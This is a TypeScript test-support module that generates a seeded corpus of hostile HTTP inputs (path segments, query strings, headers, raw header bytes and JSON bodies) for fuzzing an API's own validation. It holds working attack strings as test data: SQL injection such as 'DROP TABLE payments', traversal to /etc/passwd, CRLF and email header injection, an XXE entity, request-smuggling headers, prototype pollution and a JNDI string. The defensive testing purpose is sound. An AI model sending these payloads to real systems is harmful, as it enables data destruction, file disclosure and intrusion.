/**
 * Hostile inputs for every kind of place a request can carry them: path segments, query strings,
 * headers (those fetch can send, and raw bytes it refuses to), and bodies (generic junk, and junk
 * derived from the endpoint's documented schema). Everything random comes from one seeded
 * generator, so a failure names its seed and replays exactly: CORPUS_SEED=<n> npm test -- 'test/bad-input/*.test.ts'.
 */

export const CORPUS_SEED = Number(process.env.CORPUS_SEED ?? 20_251_108);

/** mulberry32: small, fast, and the same sequence on every machine. */
export class Rng {
  #state: number;
  constructor(seed: number) {
    this.#state = seed >>> 0;
  }
  next(): number {
    this.#state = (this.#state + 0x6d2b79f5) >>> 0;
    let t = this.#state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(below: number): number {
    return Math.floor(this.next() * below);
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
  /** Printable ASCII, letters and some punctuation: the kind of junk a fuzzer types. */
  word(length: number): string {
    const alphabet = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.~!*()';
    return Array.from({ length }, () => alphabet[this.int(alphabet.length)]).join('');
  }
  /** Code points from across the planes (no lone surrogates: those get their own cases). */
  unicode(length: number): string {
    const ranges: [number, number][] = [[0x20, 0x7e], [0xa0, 0x2ff], [0x400, 0x4ff], [0x600, 0x6ff], [0x4e00, 0x4fff], [0x1f300, 0x1f64f], [0x200b, 0x200f], [0x202a, 0x202e]];
    return Array.from({ length }, () => {
      const [lo, hi] = this.pick(ranges);
      return String.fromCodePoint(lo + this.int(hi - lo + 1));
    }).join('');
  }
  uuid(): string {
    const hex = Array.from({ length: 32 }, () => this.int(16).toString(16)).join('');
    return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20)}`;
  }
}

/** Stable per-purpose generators: adding cases to one list does not shift the values of another. */
export function rngFor(purpose: string, seed = CORPUS_SEED): Rng {
  let h = 2166136261;
  for (const c of `${seed}:${purpose}`) h = Math.imul(h ^ c.charCodeAt(0), 16777619);
  return new Rng(h);
}

/** Strings every text field meets sooner or later. */
export const SQLISH = ["' OR '1'='1", "1'; DROP TABLE payments;--", '" OR ""="', '1 UNION SELECT key_hash FROM store_api_keys--', "'); SELECT pg_sleep(5);--", '%27%20OR%201=1'];
export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'];
/** Marks anything this corpus tried to inject; it must never come back as a response header or a prototype property. */
export const MARK = 'cbpwn';

export interface PathValue {
  label: string;
  /** As it goes into the URL (already percent-encoded where it should be). */
  encoded: string;
  /** Literal dot segments: fetch would normalise them away, so these go over a raw socket. */
  raw?: boolean;
}

/** Values for one path parameter. */
export function pathValues(rng: Rng): PathValue[] {
  const enc = encodeURIComponent;
  return [
    { label: 'traversal ../ encoded', encoded: '..%2F..%2F..%2Fetc%2Fpasswd' },
    { label: 'traversal %2e%2e%2f', encoded: '%2e%2e%2f%2e%2e%2fetc%2fpasswd' },
    { label: 'traversal double-encoded', encoded: '%252e%252e%252f%252e%252e%252fetc%252fpasswd' },
    { label: 'traversal backslash', encoded: '..%5C..%5Cwindows%5Cwin.ini' },
    { label: 'traversal overlong UTF-8', encoded: '%c0%ae%c0%ae%c0%af' },
    { label: 'literal ..', encoded: '..', raw: true },
    { label: 'literal ../..', encoded: '../../..', raw: true },
    { label: 'literal ./', encoded: '.', raw: true },
    { label: 'NUL', encoded: '%00' },
    { label: 'NUL inside', encoded: `a%00${rng.word(6)}` },
    { label: 'double-encoded NUL', encoded: '%2500' },
    { label: 'broken percent-encoding', encoded: '%E0%A4%A' },
    { label: 'invalid UTF-8 byte', encoded: '%ff%fe' },
    { label: 'CRLF header injection', encoded: `x%0d%0aSet-Cookie:%20${MARK}=1%0d%0aX-${MARK}:%201` },
    ...SQLISH.slice(0, 3).map((s, i) => ({ label: `SQL-ish #${i + 1}`, encoded: enc(s) })),
    ...PROTO_KEYS.slice(0, 3).map((k) => ({ label: `prototype key ${k}`, encoded: k })),
    { label: 'template and JNDI', encoded: enc('${jndi:ldap://x}{{7*7}}<script>') },
    { label: 'random unicode', encoded: enc(rng.unicode(12)) },
    { label: '4000 characters', encoded: rng.word(4000) },
    { label: 'number as string', encoded: String(rng.int(1_000_000)) },
    { label: 'huge number', encoded: '1e309' },
    { label: 'negative', encoded: '-1' },
    { label: 'unknown uuid', encoded: rng.uuid() },
    { label: 'nil uuid', encoded: '00000000-0000-0000-0000-000000000000' },
    { label: 'space', encoded: '%20' },
  ];
}

export interface QueryCase {
  label: string;
  /** Without the leading "?". */
  query: string;
}

export interface ParamSchema {
  type?: string | string[];
  format?: string;
  enum?: unknown[];
  minimum?: number;
  maximum?: number;
  maxLength?: number;
  pattern?: string;
}

/** Junk in the query string: generic, and per documented parameter (wrong type, repeated, out of range). */
export function queryCases(rng: Rng, documented: { name: string; schema: ParamSchema }[]): QueryCase[] {
  const enc = encodeURIComponent;
  const cases: QueryCase[] = [
    { label: 'prototype keys', query: `__proto__[${MARK}]=1&constructor[prototype][${MARK}]=1&__proto__=x&constructor=y` },
    { label: '1000 repeats of one parameter', query: Array.from({ length: 1000 }, (_, i) => `a=${i}`).join('&') },
    { label: 'stray separators', query: '&&=&%=&a=%&=x&a==b' },
    { label: 'NUL and CRLF', query: `q=a%00b&r=x%0d%0aX-${MARK}:%201` },
    { label: 'invalid UTF-8', query: 'q=%ff%fe%c0%af' },
    { label: 'SQL-ish value', query: `q=${enc(rng.pick(SQLISH))}` },
    { label: '8 KB value', query: `q=${rng.word(8000)}` },
  ];
  for (const { name, schema } of documented) {
    const n = enc(name);
    cases.push({ label: `${name} repeated`, query: `${n}=${enc(sample(schema, rng))}&${n}=${enc(sample(schema, rng))}` });
    cases.push({ label: `${name} bracketed`, query: `${n}[]=1&${n}[x]=2` });
    for (const bad of badScalars(schema, rng)) cases.push({ label: `${name}=${bad.label}`, query: `${n}=${enc(bad.value)}` });
  }
  return cases;
}

/** A value of the right shape for a parameter (used only where a repeat of it is the attack). */
function sample(schema: ParamSchema, rng: Rng): string {
  if (schema.enum?.length) return String(schema.enum[0]);
  if (schema.format === 'uuid') return rng.uuid();
  if (schema.format === 'date-time') return '2025-01-01T00:00:00Z';
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  if (type === 'integer' || type === 'number') return String(schema.minimum ?? 1);
  if (type === 'boolean') return 'true';
  return rng.word(8);
}

/** String forms that are wrong for a parameter of this schema. */
function badScalars(schema: ParamSchema, rng: Rng): { label: string; value: string }[] {
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  const out: { label: string; value: string }[] = [{ label: 'SQL-ish', value: rng.pick(SQLISH) }];
  if (type === 'integer' || type === 'number') {
    out.push({ label: 'word', value: 'abc' }, { label: 'float', value: '1.5' }, { label: 'exponent', value: '1e3' }, { label: 'huge', value: '99999999999999999999999' });
    if (schema.minimum !== undefined) out.push({ label: 'below minimum', value: String(schema.minimum - 1) });
    if (schema.maximum !== undefined) out.push({ label: 'above maximum', value: String(schema.maximum + 1) });
  }
  if (type === 'boolean') out.push({ label: 'not a boolean', value: 'yes please' });
  if (schema.format === 'uuid') out.push({ label: 'not a uuid', value: `${rng.uuid()}x` });
  if (schema.format === 'date-time') out.push({ label: 'impossible date', value: '2025-13-45T25:61:00Z' }, { label: 'words', value: 'yesterday' });
  if (schema.enum?.length) out.push({ label: 'unknown enum value', value: `${String(schema.enum[0]).toUpperCase()}_${rng.word(3)}` });
  if (schema.maxLength !== undefined) out.push({ label: 'one over maxLength', value: rng.word(schema.maxLength + 1) });
  if (schema.pattern !== undefined) out.push({ label: 'against the pattern', value: `<${rng.unicode(5)}>` });
  return out;
}

export interface HeaderCase {
  label: string;
  headers: Record<string, string>;
  /** Sends its own Authorization/Cookie: the authenticated run keeps the case's, not the valid one. */
  replacesAuth?: boolean;
}

/** Odd but well-formed headers (what fetch lets a client send). */
export function headerCases(rng: Rng): HeaderCase[] {
  return [
    { label: 'forwarded-for/host/proto spoofing', headers: { 'x-forwarded-for': '127.0.0.1, <script>', 'x-forwarded-host': `${MARK}.example`, 'x-forwarded-proto': 'javascript', forwarded: `host=${MARK}.example;proto=gopher` } },
    { label: 'hostile Accept and encodings', headers: { accept: '*/*;q=garbage, application/json;q=-1', 'accept-encoding': 'gzip;q=NaN, br;q=2, *', 'accept-language': Buffer.from(rng.unicode(10)).toString('latin1') } },
    { label: 'prototype keys in cookies', headers: { cookie: `__proto__=${MARK}; constructor=x; cb_session=${rng.word(40)}; cb_csrf=` }, replacesAuth: true },
    { label: 'SQL-ish bearer', headers: { authorization: `Bearer ${rng.pick(SQLISH).replace(/\s/g, '')}` }, replacesAuth: true },
    { label: '8 KB bearer', headers: { authorization: `Bearer ${rng.word(8000)}` }, replacesAuth: true },
    { label: 'bearer without a token', headers: { authorization: 'Bearer' }, replacesAuth: true },
    { label: 'conditional and range', headers: { 'if-none-match': '*', 'if-modified-since': 'yesterday', range: 'bytes=-1,0-99999999999999' } },
    { label: 'odd Last-Event-ID', headers: { 'last-event-id': '1e309' } },
    { label: 'hostile Origin and Sec-Fetch', headers: { origin: 'null', 'sec-fetch-site': 'cross-site', referer: 'javascript:alert(1)' } },
    { label: 'hostile Idempotency-Key', headers: { 'idempotency-key': rng.pick(SQLISH).replace(/\s/g, '_') + rng.word(300) } },
  ];
}

export interface RawCase {
  label: string;
  /** Header lines to add (without CRLF at their ends), or a replacement for the whole head. */
  lines: string[];
  /** Node's HTTP parser refuses these before the app sees them (a bare 400/431, no body). */
  parserRefuses: boolean;
}

/** Header bytes fetch refuses to send: CR/LF and NUL in values, folding, oversize. */
export function rawHeaderCases(rng: Rng): RawCase[] {
  return [
    { label: 'bare LF inside a value', lines: [`X-Note: a\nX-${MARK}: 1`], parserRefuses: true },
    { label: 'bare CR inside a value', lines: [`X-Note: a\rX-${MARK}: 1`], parserRefuses: true },
    { label: 'NUL inside a value', lines: ['X-Note: a\x00b'], parserRefuses: true },
    { label: 'obsolete line folding', lines: ['X-Note: a', ' folded'], parserRefuses: true },
    { label: 'space in a header name', lines: ['X Note: a'], parserRefuses: true },
    { label: '20 KB header', lines: [`X-Big: ${rng.word(20_000)}`], parserRefuses: true },
    { label: 'Content-Length twice, different', lines: ['Content-Length: 1', 'Content-Length: 2'], parserRefuses: true },
    { label: 'Content-Length with Transfer-Encoding', lines: ['Content-Length: 2', 'Transfer-Encoding: chunked'], parserRefuses: true },
    { label: '300 headers', lines: Array.from({ length: 300 }, (_, i) => `X-H${i}: ${i}`), parserRefuses: false },
    { label: 'latin-1 bytes in a value', lines: ['X-Note: caf\xe9 \xff'], parserRefuses: false },
  ];
}

export interface BodyCase {
  label: string;
  /** undefined: no body at all. */
  body: Buffer | undefined;
  contentType: string | undefined;
}

/** The parts of a JSON schema the body corpus reads. */
export interface BodySchema {
  type?: string | string[];
  properties?: Record<string, BodySchema>;
  required?: string[];
  additionalProperties?: boolean | BodySchema;
  enum?: unknown[];
  format?: string;
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  maxItems?: number;
  maxProperties?: number;
  pattern?: string;
  items?: BodySchema;
}

const JSON_TYPE = 'application/json';
const json = (value: unknown) => Buffer.from(JSON.stringify(value));

/** Above every body limit (the largest, Shopify webhooks', is 5 MiB); made once, sent many times. */
const SIX_MIB = Buffer.from(`{"corpus":"${'x'.repeat(6 * 1024 * 1024)}"}`);

/** Nested `{"a":{"a":…}}` of the given depth, as text (JSON.stringify would recurse as deep). */
function deepObject(depth: number): string {
  return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

/**
 * Bodies for a POST/PUT: generic junk, prototype pollution, wrong content types, and per
 * documented property a value of a type the schema does not allow. None of them is a valid
 * request for any endpoint: `{}` only appears where the schema requires something, and free-text
 * fields never get "hostile" text (an SQL-ish note is a valid note).
 */
export function bodyCases(rng: Rng, schema: BodySchema | undefined, required: boolean): BodyCase[] {
  const filler = rng.word(12);
  const cases: BodyCase[] = [
    ...(required ? [{ label: 'no body', body: undefined, contentType: undefined }] : []),
    { label: 'whitespace', body: Buffer.from(' \r\n\t '), contentType: JSON_TYPE },
    { label: 'JSON null', body: Buffer.from('null'), contentType: JSON_TYPE },
    { label: 'JSON array', body: Buffer.from(`[{"corpus":"${filler}"}]`), contentType: JSON_TYPE },
    { label: 'JSON string', body: Buffer.from(`"${filler}"`), contentType: JSON_TYPE },
    { label: 'JSON number', body: Buffer.from(String(rng.int(1e9))), contentType: JSON_TYPE },
    { label: 'truncated JSON', body: Buffer.from(`{"corpus":"${filler}`), contentType: JSON_TYPE },
    { label: 'single quotes', body: Buffer.from(`{'corpus':'${filler}'}`), contentType: JSON_TYPE },
    { label: 'invalid UTF-8', body: Buffer.concat([Buffer.from('{"corpus":"'), Buffer.from([0xff, 0xfe, 0xc0, 0xaf]), Buffer.from('"}')]), contentType: JSON_TYPE },
    { label: 'UTF-16 with BOM', body: Buffer.from(`\ufeff{"corpus":"${filler}"}`, 'utf16le'), contentType: JSON_TYPE },
    { label: 'lone surrogate escape', body: Buffer.from('{"corpus":"\\ud800"}'), contentType: JSON_TYPE },
    { label: 'NUL escape', body: Buffer.from('{"corpus":"a\\u0000b"}'), contentType: JSON_TYPE },
    { label: 'nested 5000 deep', body: Buffer.from(deepObject(5000)), contentType: JSON_TYPE },
    { label: 'array 5000 deep', body: Buffer.from(`${'['.repeat(5000)}${']'.repeat(5000)}`), contentType: JSON_TYPE },
    { label: '__proto__ pollution', body: Buffer.from(`{"__proto__":{"${MARK}":true,"role":"operator","isAdmin":true}}`), contentType: JSON_TYPE },
    { label: 'constructor.prototype pollution', body: Buffer.from(`{"constructor":{"prototype":{"${MARK}":true}}}`), contentType: JSON_TYPE },
    { label: 'nested __proto__', body: Buffer.from(`{"corpus":{"__proto__":{"${MARK}":true}},"metadata":{"__proto__":{"${MARK}":1}}}`), contentType: JSON_TYPE },
    { label: 'duplicate keys', body: Buffer.from(`{"corpus":1,"corpus":"${filler}","corpus":null}`), contentType: JSON_TYPE },
    { label: 'JSON as text/plain', body: json({ corpus: filler }), contentType: 'text/plain' },
    { label: 'form-encoded', body: Buffer.from(`corpus=${filler}&__proto__[${MARK}]=1`), contentType: 'application/x-www-form-urlencoded' },
    { label: 'multipart', body: Buffer.from(`--b\r\nContent-Disposition: form-data; name="corpus"\r\n\r\n${filler}\r\n--b--\r\n`), contentType: 'multipart/form-data; boundary=b' },
    { label: 'XML with an entity', body: Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'), contentType: 'application/xml' },
    { label: 'JSON without a content type', body: json({ corpus: filler }), contentType: undefined },
    { label: 'JSON labelled UTF-16', body: json({ corpus: filler }), contentType: 'application/json; charset=utf-16' },
    { label: 'content type garbage', body: json({ corpus: filler }), contentType: `application/json\u00e9; x=${MARK}` },
    { label: '6 MiB', body: SIX_MIB, contentType: JSON_TYPE },
  ];
  if (schema?.required?.length) cases.push({ label: 'empty object', body: Buffer.from('{}'), contentType: JSON_TYPE });
  for (const [name, prop] of Object.entries(schema?.properties ?? {})) {
    for (const bad of wrongValues(prop, rng)) cases.push({ label: `${name}: ${bad.label}`, body: json({ [name]: bad.value }), contentType: JSON_TYPE });
  }
  if (schema?.additionalProperties === false) cases.push({ label: 'unknown property', body: json({ [`corpus_${filler}`]: 1 }), contentType: JSON_TYPE });
  return cases;
}

/**
 * Values a property of this schema must refuse: types it does not list (numbers as strings and
 * strings as numbers among them), out-of-range numbers, unknown enum members, broken formats,
 * and text the database cannot store.
 */
export function wrongValues(schema: BodySchema, rng: Rng): { label: string; value: unknown }[] {
  const types = schema.enum ? ['enum'] : Array.isArray(schema.type) ? schema.type : schema.type ? [schema.type] : [];
  const out: { label: string; value: unknown }[] = [];
  const allows = (t: string) => types.includes(t) || (t === 'integer' && types.includes('number'));
  if (types.length === 0) return out;
  if (!allows('string') && !types.includes('enum')) out.push({ label: 'number as a string', value: String(schema.minimum ?? 5) });
  if (!allows('number') && !allows('integer')) out.push({ label: 'string as a number', value: rng.int(1000) });
  if (!allows('boolean')) out.push({ label: 'boolean', value: true });
  if (!allows('null')) out.push({ label: 'null', value: null });
  if (!allows('array')) out.push({ label: 'array', value: [rng.word(4)] });
  if (!allows('object')) out.push({ label: 'object', value: { [MARK]: 1 } });
  if (allows('integer') && !allows('number')) out.push({ label: 'fraction', value: (schema.minimum ?? 1) + 0.5 });
  if (schema.minimum !== undefined) out.push({ label: 'below minimum', value: schema.minimum - 1 });
  if (schema.maximum !== undefined) out.push({ label: 'above maximum', value: schema.maximum + 1 });
  if (schema.enum?.length) {
    out.push({ label: 'enum member in another case', value: String(schema.enum[0]).toUpperCase() + (String(schema.enum[0]) === String(schema.enum[0]).toUpperCase() ? 'X' : '') });
    out.push({ label: 'unknown enum member', value: `${String(schema.enum[0])}_${rng.word(4)}` });
  }
  if (allows('string')) {
    out.push({ label: 'NUL inside', value: `a\u0000${rng.word(4)}` });
    out.push({ label: 'lone surrogate', value: `a\ud800${rng.word(2)}` });
    if (schema.maxLength !== undefined) out.push({ label: 'one over maxLength', value: rng.word(schema.maxLength + 1) });
    if (schema.minLength !== undefined && schema.minLength > 0) out.push({ label: 'under minLength', value: rng.word(schema.minLength - 1) });
    if (schema.format === 'uuid') out.push({ label: 'not a uuid', value: `${rng.uuid()}'--` });
    if (schema.format === 'uri') out.push({ label: 'javascript: URL', value: 'javascript:alert(document.cookie)' }, { label: 'not a URL', value: rng.unicode(8) });
    if (schema.format === 'email') out.push({ label: 'header injection email', value: `a@shop.example\r\nBcc: ${MARK}@evil.example` });
    if (schema.pattern !== undefined) out.push({ label: 'against the pattern', value: `<${rng.unicode(6)}>` });
  }
  if (allows('array')) {
    if (schema.maxItems !== undefined) out.push({ label: 'one item too many', value: Array.from({ length: schema.maxItems + 1 }, () => 'https://shop.example') });
    if (schema.items) out.push(...wrongValues(schema.items, rng).slice(0, 3).map((v) => ({ label: `item ${v.label}`, value: [v.value] })));
  }
  return out;
}

/** Own properties of Object.prototype: any change after a request is prototype pollution. */
export function prototypeSnapshot(): string[] {
  return [...Object.getOwnPropertyNames(Object.prototype), ...Object.getOwnPropertyNames(Array.prototype).map((n) => `[]${n}`)].sort();
}
